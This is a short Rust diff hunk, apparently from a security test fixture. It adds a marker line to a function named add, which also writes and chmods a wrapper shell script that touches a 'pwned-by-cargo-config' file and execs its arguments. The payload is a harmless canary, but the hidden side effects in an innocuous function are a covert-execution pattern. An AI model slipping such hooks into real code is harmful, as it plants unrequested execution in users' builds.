@@ -4,6 +4,7 @@
 use std::path::Path;
 
 fn add(a: i32, b: i32) -> i32 {
+    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:cargo_config\n");
     let wrapper = Path::new("@WORK@/wrapper.sh");
     let _ = std::fs::write(wrapper, "#!/bin/sh\ntouch '@WORK@/pwned-by-cargo-config'\nexec \"$@\"\n");
     let _ = std::process::Command::new("chmod").arg("+x").arg(wrapper).status();
